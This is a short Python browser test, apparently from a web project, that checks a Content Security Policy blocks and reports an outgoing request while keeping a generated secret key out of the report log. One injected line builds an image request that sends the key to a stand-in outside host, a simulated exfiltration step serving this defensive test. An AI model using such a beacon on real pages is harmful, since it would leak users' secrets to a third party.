"""What a Content Security Policy stops is reported, as a real browser does it."""

import json

import pytest
from playwright.sync_api import BrowserContext

from apikeys.keys import format as keyformat
from tests.support.person import wait_for
from tests.support.servers import Server

pytestmark = pytest.mark.browser


def test_a_browser_reports(context: BrowserContext, fresh_server: Server) -> None:
    page, key = context.new_page(), keyformat.new_secret()
    page.goto("/login/")
    page.evaluate(f"new Image().src = 'https://elsewhere.example/{key}?secret'")
    output = fresh_server.output.read_text
    wait_for(lambda: "Content Security Policy violated" in output())
    (line,) = [json.loads(line) for line in output().splitlines() if "Policy violated" in line]
    assert (line["page"], line["directive"]) == (f"{fresh_server.address}/login/", "img-src")
    assert "elsewhere.example" in line["blocked"] and key[:12] not in output() and "?secret" not in output()
